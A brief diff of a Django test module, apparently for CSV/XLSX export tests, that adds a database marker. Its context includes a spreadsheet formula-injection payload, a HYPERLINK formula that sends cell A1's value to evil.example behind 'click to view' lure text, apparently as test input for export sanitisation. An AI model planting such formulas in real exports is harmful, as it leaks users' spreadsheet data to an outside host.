@@ -19,6 +19,8 @@ from tests.bombs import xlsx_cells
 from tests.exports.test_flat import CSV, HEADERS, XLSX, col, confirm, export, preview, sheet_rows, xlsx_bytes
 from tests.factories import UserFactory, make_user
 
+pytestmark = pytest.mark.django_db  # (so a database flushed by a transactional test gets its role groups back)
+
 NP = canonical.t3("new_received", "natural_person")
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 
